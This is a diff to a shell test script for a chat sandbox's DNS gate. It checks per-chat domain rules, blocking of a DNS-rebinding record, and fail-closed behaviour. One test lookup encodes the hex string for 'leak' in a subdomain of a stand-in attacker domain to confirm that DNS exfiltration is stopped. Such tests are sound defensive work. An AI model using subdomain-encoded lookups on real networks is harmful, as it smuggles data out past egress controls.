@@ -280,6 +280,40 @@ expect allowed "B listens on 127.0.0.1:3000 too (its own port space)" run_as "$c
 kill "$a_server" "$listener"
 wait "$a_server" 2>/dev/null
 
+section "what chat A can look up (the DNS gate in chatcelld)"
+# A resolver of the sandbox's own on 127.0.0.10 (dnsmasq), which knows
+# api.demo (at 198.51.100.4, a documentation address on demo0) and any name
+# under attacker.demo; the gate is each cell's only resolver.
+ip addr add 127.0.0.10/8 dev lo
+ip addr add 198.51.100.4/24 dev demo0
+mkfifo /run/demo-dns
+dnsmasq --keep-in-foreground --no-resolv --no-hosts --bind-interfaces --listen-address=127.0.0.10 \
+	--user=root --log-queries --log-facility=/run/demo-dns.log --address=/api.demo/198.51.100.4 \
+	--address=/attacker.demo/198.51.100.4 --host-record=loop.demo,127.0.0.1 &
+dnsmasq=$!
+/usr/bin/python3 "$CC_SRCDIR/tests/lib/listener.py" 198.51.100.4:8000/tcp >/run/demo-dns &
+listener=$!
+read -r _ </run/demo-dns
+printf 'dns_servers = 127.0.0.10\n' >>/etc/chatcell/chatcell.conf
+chatcelld 2>/run/demo-chatcelld.log &
+gate=$!
+timeout 10 tail -n +1 -f /run/demo-chatcelld.log | grep -q -m1 'DNS gate on'
+say "  $(chatcell-admin egress allow "$chat_a_id" --domain api.demo --port 8000)"
+say "  $(chatcell-admin egress allow "$chat_a_id" --domain loop.demo --port 8000)"
+lookup() { # CHAT NAME: getent in the chat's login session
+	chatcell-admin run "$1" -- /usr/bin/getent ahostsv4 "$2" | head -1 | grep . || { echo "no answer"; return 1; }
+}
+lookup_connect() { lookup "$1" "$2" >/dev/null && connect "$1" "$3"; } # CHAT NAME ADDRESS
+expect allowed "A looks up api.demo (a --domain rule) and connects to it" lookup_connect "$chat_a_id" api.demo 198.51.100.4
+expect denied "B looks up api.demo (no rule of B's: REFUSED)" lookup "$chat_b_id" api.demo
+expect denied "A looks up 6c65616b.attacker.demo (data in a name: never forwarded)" lookup "$chat_a_id" 6c65616b.attacker.demo
+say "  the resolver's log mentions 6c65616b: $(grep -c 6c65616b /run/demo-dns.log) times"
+expect denied "A's loop.demo points at 127.0.0.1 (rebinding: dropped)" lookup "$chat_a_id" loop.demo
+kill "$gate"
+wait "$gate" 2>/dev/null
+expect denied "with chatcelld stopped, A looks up api.demo (fails closed)" lookup "$chat_a_id" api.demo
+kill "$dnsmasq" "$listener"
+
 section "deleting chat B"
 (
 	as_chat "$b" sleep 300
